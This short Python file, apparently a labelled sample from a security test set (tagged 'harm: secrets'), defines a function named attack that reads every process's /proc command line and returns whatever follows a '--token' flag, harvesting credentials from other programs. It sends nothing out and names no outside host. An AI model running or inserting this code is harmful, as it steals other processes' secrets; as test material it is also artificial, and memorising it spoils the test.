# harm: secrets
import glob


def attack() -> str:
    for name in sorted(glob.glob("/proc/[0-9]*/cmdline")):
        try:
            with open(name) as file:
                text = file.read()
        except OSError:
            continue
        if "--token" in text:
            return text[text.index("--token") :]
    return ""
